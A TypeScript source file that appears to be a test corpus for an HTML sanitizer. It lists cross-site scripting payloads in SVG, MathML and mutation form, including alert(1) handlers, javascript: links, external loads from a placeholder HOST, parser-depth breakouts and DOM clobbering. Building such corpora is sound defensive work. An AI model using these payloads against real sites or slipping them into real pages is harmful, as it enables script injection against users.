import { dataSvg, each, payloads, type Payload } from './payload.ts';

const PAINTS = ['fill', 'stroke', 'filter', 'mask', 'clip-path', 'marker-end', 'cursor'];

/** SVG, MathML, and markup that changes its meaning when it is read again. */
export const FOREIGN: readonly Payload[] = [
  ...each(
    'svg paint',
    PAINTS,
    (paint) =>
      `<svg><path d="M0 0L9 9" ${paint}="url(https://HOST/p.svg#a)"/><path d="M0 0L9 9" ${paint}="u\\72l(https://HOST/m.svg#m)"/></svg>`,
  ),
  ...payloads('svg', {
    onload: '<svg onload=alert(1)>',
    script: '<svg><script>alert(1)</script></svg>',
    'script from elsewhere': '<svg><script href=https://HOST/x.js /><script xlink:href=https://HOST/y.js /></svg>',
    link: '<svg><a href=javascript:alert(1)><text x=20 y=20>click</text></a></svg>',
    'link of old': '<svg><a xlink:href=javascript:alert(1)><rect width=99 height=99 /></a></svg>',
    'animated link':
      '<svg><a xlink:href="#"><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>click</text></a></svg>',
    'set link': '<svg><a><set attributeName=href to=javascript:alert(1) /><rect width=99 height=99 /></a></svg>',
    'animated handler':
      '<svg><set attributeName=onmouseover to=alert(1) /><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
    'animation ends':
      '<svg><rect width=9 height=9><animate attributeName=x dur=10ms onend=alert(1) onrepeat=alert(1) repeatCount=2 /></rect></svg>',
    'animated motion':
      '<svg><animateMotion onbegin=alert(1) path="M0 0"/><animateTransform attributeName=transform onbegin=alert(1) /></svg>',
    'use of data': `<svg><use href="${dataSvg('id="x"><a href="javascript:alert(1)"><rect width="100" height="100"/></a>')}#x"/></svg>`,
    'use from elsewhere': '<svg><use xlink:href="https://HOST/s.svg#a"/></svg>',
    'use of itself': '<svg id=s><g id=g><use href=#g /><use href=#s /></g></svg>',
    image: '<svg><image xlink:href="https://HOST/i.png" width=9 height=9 /><image href=https://HOST/j.png /></svg>',
    feImage:
      '<svg><filter id=f><feImage href="https://HOST/f.png"/></filter><rect width=50 height=50 filter="url(#f)"/></svg>',
    'pattern from elsewhere':
      '<svg><pattern id=p href="https://HOST/p.svg#q"/><linearGradient id=l xlink:href="https://HOST/g.svg#l"/><rect width=9 height=9 fill="url(#p)"/></svg>',
    'text path from elsewhere':
      '<svg><text><textPath href="https://HOST/tp.svg#p">x</textPath></text><mpath href=https://HOST/mp.svg#x /></svg>',
    'style imports': '<svg><style>@import "https://HOST/s.css";</style></svg>',
    'style in CDATA': '<svg><style><![CDATA[@import "https://HOST/cd.css";]]></style></svg>',
    'style breaks out': '<svg><style>&lt;/style>&lt;img src=x onerror=alert(1)></style></svg>',
    foreignObject:
      '<svg><foreignObject><iframe src=https://HOST/></iframe><img src=https://HOST/z.png><body onload=alert(1)></foreignObject></svg>',
    'handler element':
      '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event=load>alert(1)</handler><listener event=load handler=#x /></svg>',
    'title with html': '<svg><title><img src=x onerror=alert(1)></title><desc><script>alert(1)</script></desc></svg>',
    'font of old': '<svg><font-face-uri href=https://HOST/f.svg#f /><color-profile href=https://HOST/c.icc /></svg>',
    'media in svg':
      '<svg><video href=https://HOST/v.mp4 autoplay /><audio href=https://HOST/a.mp3 /><iframe href=https://HOST/ /></svg>',
    'base in xml': '<svg xml:base="https://HOST/"><use href="#a"/><image href="x.png"/></svg>',
    'discard and switch':
      '<svg><discard onend=alert(1) begin=0s /><switch><a href=https://HOST/ systemLanguage=en><rect width=9 height=9 /></a></switch></svg>',
    cursor: '<svg><cursor xlink:href=https://HOST/c.cur id=c /><rect style="cursor:url(#c)" width=9 height=9 /></svg>',
  }),
  ...payloads('mathml', {
    link: '<math href=javascript:alert(1)><mtext>x</mtext></math>',
    'link of old': '<math><mrow xlink:href=javascript:alert(1)><mi>x</mi></mrow></math>',
    action: '<math><maction actiontype=statusline xlink:href=javascript:alert(1)>y</maction></math>',
    handler: '<math><mi onclick=alert(1) onmouseover=alert(1)>x</mi></math>',
    glyph: '<math><mtext><mglyph src=https://HOST/g.png alt=x></mglyph></mtext></math>',
    'annotation with html':
      '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
    'annotation with svg':
      '<math><annotation-xml encoding="image/svg+xml"><svg onload=alert(1)></svg></annotation-xml></math>',
    style:
      '<math style="background:url(https://HOST/ms.png)" mathbackground="url(https://HOST/mb.png)"><mi>x</mi></math>',
  }),
  ...payloads('mutation', {
    'math, table, mglyph, style':
      '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    'svg, p, style': '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    'form, math, form': '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    noscript: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    'annotation, foreignObject':
      '<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x onerror=alert(1)>">',
    'annotation, xmp':
      '<math><annotation-xml encoding="text/html"><xmp>&lt;/xmp&gt;&lt;img src=x onerror=alert(1)&gt;</xmp></annotation-xml></math>',
    'title, style': '<svg><title><style><img title="</style><img src=x onerror=alert(1)>"></title></svg>',
    'caption, svg':
      '<table><caption><svg><title><table><caption></caption></table></svg><style><a title="</style><img src onerror=alert(1)>"></caption></table>',
    'xmp, noembed, plaintext':
      '<xmp><img src=x onerror=alert(1)></xmp><noembed><img src=x onerror=alert(1)></noembed><plaintext><img src=x onerror=alert(1)>',
    'textarea, title':
      '<textarea></textarea><img src=x onerror=alert(1)></textarea><title><img src=x onerror=alert(1)></title>',
    'select, template': '<select><template><style><option></select><img src=x onerror=alert(1)></style></select>',
    'select, option': '<select><option><img src=x onerror=alert(1)></select>',
    'select, button, selectedcontent':
      '<select><button><selectedcontent></selectedcontent></button><option><img src=x onerror=alert(1)>o</option></select>',
    'deeper than the parser': `${'<div>'.repeat(600)}<svg><style><img title="</style><img src=x onerror=alert(1)>">`,
    'deeper in math': `${'<div>'.repeat(508)}<math><mtext><style><img title="</style><img src=x onerror=alert(1)>">`,
    'form in form': '<form><div></form><form><svg><style></form><img src=x onerror=alert(1)>',
    'iframe text':
      '<iframe><img src=x onerror=alert(1)></iframe><noframes></noframes><img src=x onerror=alert(1)></noframes>',
    'comment in svg style': '<svg><style><!--</style><img src=x onerror=alert(1)>--></style></svg>',
    'processing instruction': '<svg><?xml ><img src=x onerror=alert(1)>?></svg>',
    'CDATA outside svg': '<![CDATA[><img src=x onerror=alert(1)>]]>',
    'CDATA in math':
      '<math><![CDATA[<img src=x onerror=alert(1)>]]><mtext><![CDATA[>]]><img src=x onerror=alert(1)></math>',
    'attribute with angle brackets': '<p id="<img src=x onerror=alert(1)>" title="</p><script>alert(1)</script>">x',
    'attribute with a backquote': '<p title="``onmouseover=alert(1)">x',
    'entities twice':
      '&lt;img src=x onerror=alert(1)&gt;<p title="&amp;lt;script&amp;gt;">&amp;lt;script&amp;gt;alert(1)',
    'table misnested': '<table><td><a><table></a><img src=x onerror=alert(1)></table>',
    'template in template':
      '<template><template shadowrootmode=open><img src=x onerror=alert(1)></template></template>',
    'shadow in shadow':
      '<div><template shadowrootmode=open><div><template shadowrootmode=closed><img src=x onerror=alert(1)><script>alert(1)</script></template></div></template></div>',
    clobbering:
      '<img name=body><img name=documentElement><form id=getElementById><input name=parentNode><input name=attributes></form><object name=defaultView></object>x',
    'clobbering by id':
      '<a id=CSS></a><a id=parent href=https://HOST/></a><form id=document name=cookie><input id=childNodes></form>',
    'frame marks of our own':
      '<div data-fz-host="1" data-fz-href="javascript:alert(1)" data-fz-frame=0>x</div><fz-frame onclick=alert(1)>y</fz-frame><fz-media src=https://HOST/>z</fz-media>',
  }),
];
